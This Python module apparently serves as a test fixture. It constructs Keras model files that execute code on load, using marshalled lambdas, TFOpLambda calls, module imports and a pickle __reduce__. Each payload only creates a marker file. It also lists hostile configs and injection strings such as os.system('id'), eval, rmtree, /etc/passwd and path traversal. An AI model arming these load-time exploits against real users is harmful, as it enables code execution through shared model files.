"""Keras files that run code while they are loaded, written without Keras: each leaves a mark if it succeeds."""

from __future__ import annotations

import codecs
import io
import json
import marshal
import re
import zipfile
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import h5py
import numpy as np

Layer = dict[str, Any]
#: Text that is a word or a path, which may stand where no function is looked up.
re_word = re.compile(r"[\w .:/>+-]*", re.ASCII)


def input_layer() -> Layer:
    config = {"batch_input_shape": [None, 4], "dtype": "float32", "sparse": False, "ragged": False, "name": "x"}
    return {"class_name": "InputLayer", "config": config, "name": "x", "inbound_nodes": []}


def dense(**changes: Any) -> Layer:
    config = {"name": "fc", "trainable": True, "dtype": "float32", "units": 2, "activation": "linear", "use_bias": True}
    config |= {
        "kernel_initializer": {"class_name": "GlorotUniform", "config": {"seed": None}},
        "bias_initializer": {"class_name": "Zeros", "config": {}},
        **changes,
    }
    return {"class_name": "Dense", "config": config, "name": "fc", "inbound_nodes": [[["x", 0, 0, {}]]]}


def layer(name: str, cls: str, inbound: Any = None, **config: Any) -> Layer:
    nodes = [[["fc", 0, 0, {}]]] if inbound is None else inbound
    return {"class_name": cls, "config": {"name": name, **config}, "name": name, "inbound_nodes": nodes}


def architecture(*layers: Layer) -> dict[str, Any]:
    listed = [input_layer(), *(layers or (dense(),))]
    ends = {"input_layers": [["x", 0, 0]], "output_layers": [[listed[-1]["name"], 0, 0]]}
    return {"class_name": "Functional", "config": {"name": "student", "trainable": True, "layers": listed, **ends}}


def write_h5(path: Path, config: Any) -> Path:
    with h5py.File(path, "w") as file:
        file.attrs["model_config"] = json.dumps(config)
        group = file.create_group("model_weights")
        group.attrs["layer_names"] = [b"fc"]
        group.attrs["backend"], group.attrs["keras_version"] = "tensorflow", "2.15.0"
        inner = group.create_group("fc")
        inner.attrs["weight_names"] = [b"fc/kernel:0", b"fc/bias:0"]
        inner["fc/kernel:0"], inner["fc/bias:0"] = np.ones((4, 2), "f4"), np.zeros(2, "f4")
    return path


def with_modules(node: Any) -> Any:
    """The architecture as a ``.keras`` holds it: every layer says its module."""
    if isinstance(node, list):
        return [with_modules(child) for child in node]
    if not isinstance(node, dict):
        return node
    node = {key: with_modules(value) for key, value in node.items()}
    if "class_name" in node and "module" not in node and not node["class_name"].startswith("__"):
        module = "keras.src.engine.functional" if node["class_name"] == "Functional" else "keras.layers"
        if node["class_name"] in ("GlorotUniform", "Zeros"):
            module = "keras.initializers"
        node |= {"module": module, "registered_name": None}
    return node


def weights_h5(folder: Path) -> bytes:
    with h5py.File(folder / "weights.h5", "w") as file:
        for name in ("", "layers/input_layer/", "layers/op_lambda/"):
            file.require_group(f"{name}vars")
        for name, values in (("0", np.ones((4, 2), "f4")), ("1", np.zeros(2, "f4"))):
            file[f"layers/dense/vars/{name}"] = values
    return (folder / "weights.h5").read_bytes()


def write_keras(path: Path, config: Any, **parts: bytes) -> Path:
    parts = parts or {"model.weights.h5": weights_h5(path.parent)}
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("metadata.json", json.dumps({"keras_version": "2.15.0"}))
        archive.writestr("config.json", json.dumps(with_modules(config)))
        for name, content in parts.items():
            archive.writestr(name, content)
    return path


def places(node: Any) -> Iterator[tuple[Any, Any]]:
    """Every entry of an architecture: (its container, its key)."""
    for key, child in list(node.items() if isinstance(node, dict) else enumerate(node)):
        yield node, key
        if isinstance(child, (dict, list)):
            yield from places(child)


class _Touch:
    def __init__(self, target: Path) -> None:
        self.target = target

    def __reduce__(self) -> tuple[Any, ...]:
        return Path.touch, (self.target,)


def _bytecode(mark: Path) -> list[Any]:
    code = compile(f"lambda x: (open({str(mark)!r}, 'w').close(), x)[1]", "<file>", "eval").co_consts[0]
    return [codecs.encode(marshal.dumps(code), "base64").decode(), None, None]


def _operation(mark: Path, name: str = "op") -> Layer:
    """A public TensorFlow function, called with a constant while the graph is built."""
    constant = [["_CONSTANT_VALUE", -1, str(mark), {}]]
    return layer(name, "TFOpLambda", constant, trainable=True, dtype="float32", function="io.gfile.makedirs")


def _module_of_the_strangers(mark: Path) -> str:
    """A module beside the file: what happens when Keras imports it."""
    (mark.parent / "stranger.py").write_text(
        f"open({str(mark)!r}, 'w').close()\nclass Thing:\n    from_config = classmethod(lambda cls, config: cls())\n"
    )
    return "stranger"


def thing(mark: Path) -> dict[str, Any]:
    module = _module_of_the_strangers(mark)
    return {"module": module, "class_name": "Thing", "config": {}, "registered_name": None}


def function(mark: Path) -> dict[str, Any]:
    module = _module_of_the_strangers(mark)
    return {"module": module, "class_name": "function", "config": "Thing", "registered_name": "Thing"}


def _npz(path: Path, mark: Path) -> Path:
    buffer = io.BytesIO()
    np.savez(buffer, **{"layers/dense": np.array([_Touch(mark)], dtype=object)})
    return write_keras(path, architecture(), **{"model.weights.npz": buffer.getvalue()})


def _lambda(mark: Path) -> Layer:
    nothing = {"output_shape": None, "output_shape_type": "raw", "output_shape_module": None, "arguments": {}}
    return layer("hidden", "Lambda", function=_bytecode(mark), function_type="lambda", module=None, **nothing)


def _root(mark: Path) -> dict[str, Any]:
    return {**architecture(), **thing(mark)}


#: Attacks that Keras 2.15 falls for when it is asked to load the file as it is.
ATTACKS: dict[str, Callable[[Path, Path], Path]] = {
    "TFOpLambda.h5": lambda path, mark: write_h5(path, architecture(dense(), _operation(mark))),
    "TFOpLambda.keras": lambda path, mark: write_keras(path, architecture(dense(), _operation(mark))),
    "Lambda.h5": lambda path, mark: write_h5(path, architecture(dense(), _lambda(mark))),
    "Lambda.keras": lambda path, mark: write_keras(path, architecture(dense(), _lambda(mark))),
    "module.keras": lambda path, mark: write_keras(path, _root(mark)),
    "pickle.keras": _npz,
}


def objects(module: str) -> dict[str, Any]:
    """What a file may try to have built where an object or a value stands."""
    return {
        "lambda": {"class_name": "__lambda__", "config": {"value": ["YQ==", None, None]}},
        "Lambda": layer("hidden", "Lambda", function="x"),
        "TFOpLambda": layer("op", "TFOpLambda", function="io.gfile.rmtree"),
        "SlicingOpLambda": layer("op", "SlicingOpLambda", function="io.gfile.rmtree"),
        "class of a module": {"module": module, "class_name": "Thing", "config": {}, "registered_name": None},
        "class of a listed name": {"module": module, "class_name": "Zeros", "config": {}, "registered_name": None},
        "relative module": {"module": "keras..stranger", "class_name": "Zeros", "config": {}},
        "module of the library": {"module": "qkeras.qtools.examples.x", "class_name": "Zeros", "config": {}},
        "registered": {"module": None, "class_name": "Zeros", "config": {}, "registered_name": "Custom>Thing"},
        "function": {"module": module, "class_name": "function", "config": "Thing", "registered_name": "Thing"},
        "builtin": {"module": "builtins", "class_name": "function", "config": "eval", "registered_name": "eval"},
        "os.system": {"module": "os", "class_name": "function", "config": "system", "registered_name": "system"},
        "file": {
            "module": "keras.utils",
            "class_name": "function",
            "config": "get_file",
            "registered_name": "get_file",
        },
        "type": {
            "class_name": "__typespec__",
            "spec_name": "Thing",
            "module": module,
            "config": [],
            "registered_name": "x",
        },
        "tensor": {"class_name": "__tensor__", "config": {"value": [1.0], "dtype": "float32"}},
        "array": {"class_name": "__numpy__", "config": {"value": [1.0], "dtype": "O"}},
        "bytes": {"class_name": "__bytes__", "config": {"value": "x"}},
        "legacy type": {"class_name": "TypeSpec", "type_spec": "Thing", "serialized": []},
        "composite": {"class_name": "CompositeTensor", "spec": {}, "tensors": [["float32", [1.0]]]},
        "ellipsis": {"class_name": "__ellipsis__"},
        "optimizer": {"module": "keras.optimizers", "class_name": "Adam", "config": {}, "registered_name": None},
        "metric": {"module": "keras.metrics", "class_name": "MeanMetricWrapper", "config": {"fn": "x"}},
        "text": layer("t", "TextVectorization", vocabulary="/etc/passwd", standardize="x"),
        "lookup": layer("t", "StringLookup", vocabulary="/etc/passwd"),
        "wrapped": layer("t", "TimeDistributed", layer=layer("op", "TFOpLambda", function="io.gfile.rmtree")),
        "initializer of a lookup": {"class_name": "QInitializer", "config": {"initializer": {"class_name": "Lookup"}}},
    }


#: Text that QKeras or Keras would look up, call or write into a file's name or C++, where a word stands.
TEXTS = [
    "set_internal_sigmoid('real')",
    "safe_eval(quantized_bits, tf)",
    "__builtins__",
    "tf",
    "os.system('id')",
    "quantized_bits(4,0)(1)",
    "quantized_bits(__import__('os').getpid())",
    "quantized_bits(bits=100000000000)",
    "quantized_bits(1e99)",
    "Custom>Thing",
    "stranger.Thing",
    "get_quantizer(bernoulli)",
    'x"); system("id"); ("',
    "a\nb",
    "../../../etc/x\x00",
    "${PATH}",
    "x;y",
    "é",
]
